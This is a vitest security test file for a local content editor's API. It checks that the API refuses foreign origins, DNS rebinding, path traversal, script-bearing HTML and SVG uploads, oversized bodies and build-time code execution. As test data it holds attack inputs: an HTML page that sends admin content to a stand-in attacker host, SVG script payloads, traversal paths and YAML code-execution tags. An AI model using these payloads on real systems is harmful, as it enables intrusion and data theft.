/**
 * The content editor's local backend (scripts/live/editorApi.ts), attacked as issue 39 item 6's review did: in a
 * copy of the project, npm start's site server with the editor's API, asked over HTTP from this machine.
 * Other origins and host names; a path outside content/ in every field of every action that names one (`..`,
 * absolute, URL-encoded, backslashes, links inside content/ to elsewhere, NUL); uploads of an HTML page, an SVG
 * with a script, a "photo" that is HTML; bodies too large to read; and files that would run code at build time.
 */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { copyProject, type ProjectCopy } from '../../scripts/harness/projectCopy.ts';
import { editorApi, MAX_BODY_BYTES } from '../../scripts/live/editorApi.ts';
import { createStaticServer } from '../../scripts/live/siteServer.ts';
import { loadContent } from '../../src/content/loader.ts';
import { EDITOR_API_PATH } from '../../src/editor/shared.ts';

let project: ProjectCopy;
let outside: string;
let served: string;
let server: http.Server;
let port = 0;
const SECRET = 'SECRET-OUTSIDE-CONTENT';

beforeAll(async () => {
  project = copyProject();
  outside = mkdtempSync(path.join(tmpdir(), 'outside-'));
  served = mkdtempSync(path.join(tmpdir(), 'served-'));
  writeFileSync(path.join(outside, 'secret.yaml'), `${SECRET}\n`);
  writeFileSync(path.join(project.dir, 'secret.yaml'), `${SECRET}\n`);
  server = createStaticServer(served, () => undefined, await editorApi(project.dir, undefined));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
}, 60_000);

afterAll(async () => {
  server?.closeAllConnections();
  await new Promise((resolve) => server?.close(resolve));
  project?.cleanup();
  rmSync(outside, { recursive: true, force: true });
  rmSync(served, { recursive: true, force: true });
});

interface Answer {
  status: number;
  text: string;
  json: { error?: string } & Record<string, unknown>;
}

/** A POST to the editor's API from this machine, as the editor's page sends it unless `headers` say otherwise. */
function call(body: unknown, headers: Record<string, string> = {}): Promise<Answer> {
  const bytes = Buffer.from(typeof body === 'string' ? body : JSON.stringify(body));
  return new Promise((resolve, reject) => {
    const request = http.request(
      {
        host: '127.0.0.1',
        port,
        path: EDITOR_API_PATH,
        method: 'POST',
        headers: { Host: `127.0.0.1:${port}`, Origin: `http://127.0.0.1:${port}`, 'Content-Type': 'application/json', 'Content-Length': String(bytes.length), ...headers },
      },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => {
          const text = Buffer.concat(chunks).toString('utf8');
          let json = {};
          try {
            json = JSON.parse(text);
          } catch {
            // not JSON
          }
          resolve({ status: response.statusCode ?? 0, text, json });
        });
      },
    );
    request.on('error', reject);
    request.end(bytes);
  });
}

const options = { commitMessage: 'x', useWorkflow: false, status: 'draft' };
const branch = 'main';
const png = () => sharp({ create: { width: 4, height: 4, channels: 3, background: '#88aacc' } }).png().toBuffer();

/** Every file of the project copy outside content/ and node_modules, with its bytes, and the folder outside it. */
function filesOutsideContent(): Map<string, string> {
  const found = new Map<string, string>();
  const walk = (dir: string, shown: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const at = path.join(dir, entry.name);
      const name = `${shown}/${entry.name}`;
      if (entry.isDirectory()) walk(at, name);
      else if (entry.isFile()) found.set(name, readFileSync(at, 'latin1'));
    }
  };
  for (const entry of readdirSync(project.dir, { withFileTypes: true })) {
    if (entry.name === 'content' || entry.name === 'node_modules') continue;
    if (entry.isDirectory()) walk(path.join(project.dir, entry.name), entry.name);
    else if (entry.isFile()) found.set(entry.name, readFileSync(path.join(project.dir, entry.name), 'latin1'));
  }
  walk(outside, '<outside>');
  return found;
}

describe('the review of issue 39', () => {
  describe('1. other sites and other host names', () => {
    test('the page of its own origin is answered (the control)', async () => {
      const answer = await call({ action: 'getEntry', params: { branch, path: 'content/faq.yaml' } });
      expect(answer.status).toBe(200);
      expect(answer.json.data).toBe(readFileSync(path.join(project.dir, 'content/faq.yaml'), 'utf8'));
    });

    test('another origin (Origin: https://evil.example) is refused', async () => {
      const answer = await call({ action: 'getEntry', params: { branch, path: 'content/faq.yaml' } }, { Origin: 'https://evil.example' });
      expect(answer).toMatchObject({ status: 403, json: { error: 'The content editor saves only from its own page.' } });
    });

    test('another port of this machine, and http://localhost.evil.example, are other origins and refused', async () => {
      for (const origin of [`http://127.0.0.1:${port + 1}`, `http://localhost.evil.example:${port}`, `https://127.0.0.1:${port}`]) {
        expect((await call({ action: 'info' }, { Origin: origin })).status, origin).toBe(403);
      }
    });

    test('a "null" origin (a sandboxed frame or a file: page) is refused', async () => {
      const answer = await call({ action: 'getEntry', params: { branch, path: 'content/faq.yaml' } }, { Origin: 'null' });
      expect(answer).toMatchObject({ status: 403, json: { error: 'The content editor saves only from its own page.' } });
    });

    test('another host name (DNS rebinding: Host: evil.example, with or without the port, and its own Origin) is refused', async () => {
      for (const host of ['evil.example', `evil.example:${port}`, `localhost.evil.example:${port}`, `127.0.0.1.nip.io:${port}`]) {
        const answer = await call({ action: 'getEntry', params: { branch, path: 'content/faq.yaml' } }, { Host: host, Origin: `http://${host}` });
        expect(answer, host).toMatchObject({ status: 403, json: { error: 'Open the content editor at localhost or 127.0.0.1.' } });
        expect(answer.text).not.toContain('question');
      }
    });

    test('a form from another site (not JSON) is refused', async () => {
      const answer = await call('action=info', { 'Content-Type': 'application/x-www-form-urlencoded', Origin: 'null' });
      expect(answer.status).toBe(403);
      expect((await call('{"action":"info"}', { 'Content-Type': 'text/plain' })).status).toBe(415);
    });
  });

  describe('2. a path outside content/ in every field of every action that names one', () => {
    /** Ways out of content/ to secret.yaml (in the project's root, or in a folder outside the project). */
    const FILES = (out: () => string) => [
      ['../', 'content/../secret.yaml'],
      ['../ twice, to a folder outside the project', () => `content/../../${path.basename(out())}/secret.yaml`],
      ['../ first', '../secret.yaml'],
      ['an absolute path', () => `${out()}/secret.yaml`],
      ['an absolute path through content/', '/content/../secret.yaml'],
      ['URL-encoded %2e%2e%2f', '%2e%2e%2fsecret.yaml'],
      ['URL-encoded %2e%2e%2f after content/', 'content/%2e%2e%2fsecret.yaml'],
      ['URL-encoded content%2f%2e%2e%2f', 'content%2f%2e%2e%2fsecret.yaml'],
      ['backslashes with ..', 'content\\..\\secret.yaml'],
      ['a backslash alone (on Linux, content\\secret.yaml is a file beside content/)', 'content\\secret.yaml'],
      ['a link in content/ to the project', 'content/linked-project/secret.yaml'],
      ['a link in content/ to a folder outside the project', 'content/linked-outside/secret.yaml'],
      ['a link in content/ to a file outside', 'content/linked-secret.yaml'],
      ['a NUL byte', 'content/faq.yaml\u0000/../../secret.yaml'],
    ] as Array<[string, string | (() => string)]>;
    const FOLDERS = (out: () => string) => [
      ['../', 'content/..'],
      ['an absolute path', () => out()],
      ['URL-encoded %2e%2e', 'content/%2e%2e'],
      ['backslashes', 'content\\..'],
      ['a link in content/ to the project', 'content/linked-project'],
      ['a link in content/ to a folder outside the project', 'content/linked-outside'],
      ['a NUL byte', 'content/\u0000..'],
    ] as Array<[string, string | (() => string)]>;

    /** Each action and the field that names a file, with a request naming `file` there. */
    const FILE_FIELDS: Array<[string, (file: string, image: string) => unknown]> = [
      ['getEntry path', (file) => ({ action: 'getEntry', params: { branch, path: file } })],
      ['entriesByFiles files[].path', (file) => ({ action: 'entriesByFiles', params: { branch, files: [{ path: 'content/faq.yaml' }, { path: file }] } })],
      ['getMediaFile path', (file) => ({ action: 'getMediaFile', params: { branch, path: file } })],
      ['persistEntry entry.path', (file) => ({ action: 'persistEntry', params: { branch, entry: { slug: 's', path: file, raw: 'OVERWRITTEN' }, assets: [], options } })],
      ['persistEntry dataFiles[].path', (file) => ({ action: 'persistEntry', params: { branch, dataFiles: [{ slug: 's', path: 'content/services/planted.yaml', raw: 'x' }, { slug: 's', path: file, raw: 'OVERWRITTEN' }], assets: [], options } })],
      ['persistEntry dataFiles[].newPath (a move)', (file) => ({ action: 'persistEntry', params: { branch, dataFiles: [{ slug: 's', path: 'content/services/planted.yaml', raw: 'x', newPath: file }], assets: [], options: { ...options, hasSubfolders: false } } })],
      ['persistEntry assets[].path', (file, image) => ({ action: 'persistEntry', params: { branch, entry: { slug: 's', path: 'content/services/planted.yaml', raw: 'x' }, assets: [{ path: file, content: image, encoding: 'base64' }], options } })],
      ['persistMedia asset.path', (file, image) => ({ action: 'persistMedia', params: { branch, asset: { path: file, content: image, encoding: 'base64' }, options } })],
      ['deleteFile path', (file) => ({ action: 'deleteFile', params: { branch, path: file, options } })],
      ['deleteFiles paths[]', (file) => ({ action: 'deleteFiles', params: { branch, paths: ['content/services/planted.yaml', file], options } })],
    ];
    const FOLDER_FIELDS: Array<[string, (folder: string) => unknown]> = [
      ['entriesByFolder folder', (folder) => ({ action: 'entriesByFolder', params: { branch, folder, extension: 'yaml', depth: 3 } })],
      ['getMedia mediaFolder', (folder) => ({ action: 'getMedia', params: { branch, mediaFolder: folder } })],
    ];

    let before: Map<string, string>;
    let image = '';
    beforeAll(async () => {
      const content = path.join(project.dir, 'content');
      symlinkSync(project.dir, path.join(content, 'linked-project'), 'dir');
      symlinkSync(outside, path.join(content, 'linked-outside'), 'dir');
      symlinkSync(path.join(outside, 'secret.yaml'), path.join(content, 'linked-secret.yaml'));
      image = (await png()).toString('base64');
      before = filesOutsideContent();
    });
    afterAll(() => {
      for (const link of ['linked-project', 'linked-outside', 'linked-secret.yaml']) rmSync(path.join(project.dir, 'content', link), { force: true });
      rmSync(path.join(project.dir, 'content/services/planted.yaml'), { force: true });
    });

    for (const [way, file] of FILES(() => outside)) {
      test(`${way} (${JSON.stringify(typeof file === 'string' ? file : '<outside>/secret.yaml')}) is refused in every file field, reading, writing, moving or deleting nothing`, async () => {
        const named = typeof file === 'string' ? file : file();
        for (const [field, request] of FILE_FIELDS) {
          const answer = await call(request(named, image));
          expect(answer.status, field).toBe(403);
          expect(answer.json.error, field).toMatch(/^The editor changes only the files under content\/; refused: /);
          expect(answer.text, field).not.toContain(SECRET);
        }
        expect(filesOutsideContent()).toEqual(before);
        expect(existsSync(path.join(project.dir, 'content/services/planted.yaml'))).toBe(false);
      });
    }

    for (const [way, folder] of FOLDERS(() => outside)) {
      test(`${way} (${JSON.stringify(typeof folder === 'string' ? folder : '<outside>')}) is refused in every folder field, listing nothing`, async () => {
        const named = typeof folder === 'string' ? folder : folder();
        for (const [field, request] of FOLDER_FIELDS) {
          const answer = await call(request(named));
          expect(answer.status, field).toBe(403);
          expect(answer.text, field).not.toContain(SECRET);
          expect(answer.text, field).not.toContain('secret.yaml');
        }
      });
    }

    test('a path under content/ is still read, written, moved and deleted (the control)', async () => {
      const write = await call({ action: 'persistEntry', params: { branch, entry: { slug: 'planted', path: 'content/services/planted.yaml', raw: 'title: x\n' }, assets: [], options } });
      expect(write.status).toBe(200);
      expect(readFileSync(path.join(project.dir, 'content/services/planted.yaml'), 'utf8')).toBe('title: x\n');
      expect((await call({ action: 'getEntry', params: { branch, path: './content/services/planted.yaml' } })).json.data).toBe('title: x\n');
      expect((await call({ action: 'deleteFile', params: { branch, path: 'content/services/planted.yaml', options } })).status).toBe(200);
      expect(existsSync(path.join(project.dir, 'content/services/planted.yaml'))).toBe(false);
      expect(filesOutsideContent()).toEqual(before);
    });
  });

  describe('3. uploads that would run script on the site', () => {
    const upload = (file: string, bytes: Buffer | string) =>
      call({ action: 'persistMedia', params: { branch, asset: { path: file, content: Buffer.from(bytes).toString('base64'), encoding: 'base64' }, options } });
    const at = (file: string) => path.join(project.dir, file);
    const PAGE = '<!doctype html><title>x</title><script>fetch("/admin").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script>';
    const SVG = 'xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" width="10" height="10"';

    test('an HTML page is refused (as a picture upload, as an entry\'s asset, and as an entry)', async () => {
      for (const file of ['content/images/page.html', 'content/images/page.htm', 'content/images/page.xhtml']) {
        const answer = await upload(file, PAGE);
        expect(answer, file).toMatchObject({ status: 422, json: { error: `The editor uploads pictures only (JPEG, PNG, WebP, AVIF, GIF or SVG); refused: ${file}` } });
        expect(existsSync(at(file))).toBe(false);
      }
      const asAsset = await call({ action: 'persistEntry', params: { branch, entry: { slug: 's', path: 'content/services/planted.yaml', raw: 'x' }, assets: [{ path: 'content/images/page.html', content: Buffer.from(PAGE).toString('base64'), encoding: 'base64' }], options } });
      expect(asAsset.status).toBe(422);
      const asEntry = await call({ action: 'persistEntry', params: { branch, entry: { slug: 's', path: 'content/pages/page.html', raw: PAGE }, assets: [], options } });
      expect(asEntry).toMatchObject({ status: 422, json: { error: 'The editor saves entries as .yaml or .mdx files only; refused: content/pages/page.html' } });
      expect(existsSync(at('content/services/planted.yaml'))).toBe(false);
      expect(existsSync(at('content/pages/page.html'))).toBe(false);
    });

    test('an SVG with a script is refused with the content check\'s own words (checkSvg)', async () => {
      for (const [svg, found] of [
        [`<svg ${SVG}><script>alert(document.domain)</script></svg>`, 'holding a script'],
        [`<svg ${SVG} onload="alert(1)"/>`, 'onload'],
        [`<svg ${SVG}><a href="javascript:alert(1)"><text>x</text></a></svg>`, 'javascript:alert(1)'],
        [`<svg ${SVG}><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject></svg>`, 'a piece of web page'],
      ] as Array<[string, string]>) {
        const answer = await upload('content/images/drawing.svg', svg);
        expect(answer.status, svg).toBe(422);
        expect(answer.json.error, svg).toMatch(/^expected an SVG picture with nothing that runs or loads from elsewhere .* found content\/images\/drawing\.svg holding/);
        expect(answer.json.error, svg).toContain(found);
        expect(existsSync(at('content/images/drawing.svg'))).toBe(false);
      }
    });

    test('a file with a misleading extension (photo.jpg, .png, .webp whose bytes are HTML or an SVG) is refused', async () => {
      for (const [file, bytes] of [
        ['content/images/photo.jpg', PAGE],
        ['content/images/photo.jpeg', `<svg ${SVG}><script>alert(1)</script></svg>`],
        ['content/images/photo.png', PAGE],
        ['content/images/photo.webp', PAGE],
        ['content/images/photo.gif', PAGE],
        ['content/images/photo.avif', PAGE],
      ] as Array<[string, string]>) {
        const answer = await upload(file, bytes);
        expect(answer.status, file).toBe(422);
        expect(answer.json.error, file).toMatch(/^expected a (JPG|JPEG|PNG|WEBP|GIF|AVIF) picture, found content\/images\/photo\.\w+ holding something else/);
        expect(existsSync(at(file))).toBe(false);
      }
    });

    test('an upload outside content/images/ is refused, even a picture', async () => {
      const answer = await upload('content/pages/photo.png', await png());
      expect(answer).toMatchObject({ status: 422, json: { error: 'The editor uploads pictures into content/images/ only; refused: content/pages/photo.png' } });
    });

    test('a real PNG and a clean SVG are uploaded (the control)', async () => {
      const bytes = await png();
      expect((await upload('content/images/review-photo.png', bytes)).status).toBe(200);
      expect(readFileSync(at('content/images/review-photo.png'))).toEqual(bytes);
      const svg = `<svg ${SVG}><circle cx="5" cy="5" r="4" fill="#336"/></svg>`;
      expect((await upload('content/images/review-drawing.svg', svg)).status).toBe(200);
      expect(readFileSync(at('content/images/review-drawing.svg'), 'utf8')).toBe(svg);
      for (const file of ['content/images/review-photo.png', 'content/images/review-drawing.svg']) await call({ action: 'deleteFile', params: { branch, path: file, options } });
      expect(existsSync(at('content/images/review-photo.png'))).toBe(false);
    });
  });

  describe('4. a huge upload', () => {
    /**
     * Sends up to `total` bytes in 1 MB chunks (with Content-Length when `declared`, else chunked), stopping once
     * the answer has come: the answer, and how many bytes had been sent by then.
     */
    function flood(total: number, declared: boolean): Promise<{ status: number; text: string; sent: number }> {
      return new Promise((resolve, reject) => {
        let sent = 0;
        let answered = false;
        const headers: Record<string, string> = { Host: `127.0.0.1:${port}`, Origin: `http://127.0.0.1:${port}`, 'Content-Type': 'application/json' };
        if (declared) headers['Content-Length'] = String(total);
        const request = http.request({ host: '127.0.0.1', port, path: EDITOR_API_PATH, method: 'POST', headers }, (response) => {
          answered = true;
          const chunks: Buffer[] = [];
          response.on('data', (chunk: Buffer) => chunks.push(chunk));
          response.on('end', () => {
            request.destroy();
            resolve({ status: response.statusCode ?? 0, text: Buffer.concat(chunks).toString('utf8'), sent });
          });
        });
        request.on('error', (error) => (answered ? undefined : reject(error)));
        const chunk = Buffer.alloc(1024 * 1024, 'a');
        chunk.write('{"action":"persistMedia","params":{"asset":{"content":"');
        const more = () => {
          while (!answered && sent < total) {
            sent += chunk.length;
            if (!request.write(chunk)) return void request.once('drain', more);
          }
          if (!answered) request.end();
        };
        more();
      });
    }

    test('a 100 MB body (declared) is refused at once with a plain message, its bytes never read', async () => {
      const rss = process.memoryUsage().rss;
      const answer = await flood(100 * 1024 * 1024, true);
      expect(answer.status).toBe(413);
      expect(JSON.parse(answer.text)).toEqual({ error: expect.stringMatching(/^The content editor takes files of at most 15 MB: this one is larger\. Make the picture smaller/) });
      expect(answer.sent).toBeLessThan(40 * 1024 * 1024);
      expect(process.memoryUsage().rss - rss).toBeLessThan(100 * 1024 * 1024);
    }, 30_000);

    test('a long stream with no length (chunked, 100 MB) is refused once past the limit, not read to its end, memory kept', async () => {
      const rss = process.memoryUsage().rss;
      const answer = await flood(100 * 1024 * 1024, false);
      expect(answer.status).toBe(413);
      expect(JSON.parse(answer.text).error).toMatch(/^The content editor takes files of at most 15 MB/);
      expect(answer.sent).toBeLessThan(MAX_BODY_BYTES + 16 * 1024 * 1024);
      expect(process.memoryUsage().rss - rss).toBeLessThan(150 * 1024 * 1024);
      // The server still answers.
      expect((await call({ action: 'info' })).status).toBe(200);
    }, 30_000);

    test('a body under the limit that is not JSON is refused plainly', async () => {
      const answer = await call('{"action":');
      expect(answer).toMatchObject({ status: 400, json: { error: 'The content editor could not read this request (it is not JSON).' } });
    });
  });

  describe('5. files that would run code at build time', () => {
    const at = (file: string) => path.join(project.dir, file);
    const save = (file: string, raw: string) => call({ action: 'persistEntry', params: { branch, entry: { slug: 's', path: file, raw }, assets: [], options } });

    test('a .ts, .js, .mjs, .cjs, .json or .html file under content/ is refused', async () => {
      for (const file of ['content/services/evil.ts', 'content/evil.js', 'content/pages/evil.mjs', 'content/evil.cjs', 'content/evil.tsx', 'content/evil.json', 'content/services/evil.yaml.ts']) {
        const answer = await save(file, 'require("node:fs").writeFileSync("/tmp/ran", "ran")');
        expect(answer, file).toMatchObject({ status: 422, json: { error: `The editor saves entries as .yaml or .mdx files only; refused: ${file}` } });
        expect(existsSync(at(file))).toBe(false);
      }
    });

    test('an MDX file with import/export and {...} expressions is refused by the content check, and nothing in it runs', async () => {
      const marker = path.join(outside, 'ran.txt');
      const source = readFileSync(at('content/services/24-hour-care.mdx'), 'utf8');
      const code = `import fs from 'node:fs'\n\nexport const ran = fs.writeFileSync(${JSON.stringify(marker)}, 'export')\n\n{fs.writeFileSync(${JSON.stringify(marker)}, 'expression')}\n\n<Callout title={fs.writeFileSync(${JSON.stringify(marker)}, 'attribute')}>x</Callout>\n`;
      expect((await save('content/services/review-code.mdx', `${source.replace(/\n*$/, '\n\n')}${code}`)).status).toBe(200);
      try {
        const error = await loadContent(at('content')).then(() => undefined, (thrown: Error) => thrown.message);
        expect(error).toContain('content/services/review-code.mdx');
        expect(error).toContain('found an import or export (they are not needed in content files)');
        expect(error).toContain('found a {...} expression (content cannot run code');
        expect(existsSync(marker)).toBe(false);
      } finally {
        await call({ action: 'deleteFile', params: { branch, path: 'content/services/review-code.mdx', options } });
      }
    });

    test('a YAML file with a custom tag (!!js/function, !!js/undefined, !!python/object) is refused by the content check', async () => {
      mkdirSync(at('content/services'), { recursive: true });
      const service = readFileSync(at('content/services/acute-illness-recovery.yaml'), 'utf8');
      for (const tag of ['!!js/function', '!!js/undefined', '!!python/object/apply:os.system']) {
        const raw = service.replace(/^title: (.*)$/m, `title: ${tag} "function () { require('node:fs').writeFileSync('/tmp/ran', 'ran') }"`);
        expect(raw).not.toBe(service);
        expect((await save('content/services/acute-illness-recovery.yaml', raw)).status).toBe(200);
        try {
          const error = await loadContent(at('content')).then(() => undefined, (thrown: Error) => thrown.message);
          expect(error, tag).toContain(`content/services/acute-illness-recovery.yaml`);
          // In the content check's words (src/content/problems.ts): the mark named, and that the site does not know it.
          expect(error, tag).toMatch(/starts with "!!(js|python)\/[^"]*", a mark this site does not know/);
        } finally {
          await save('content/services/acute-illness-recovery.yaml', service);
        }
      }
      expect(existsSync('/tmp/ran')).toBe(false);
    });
  });
});
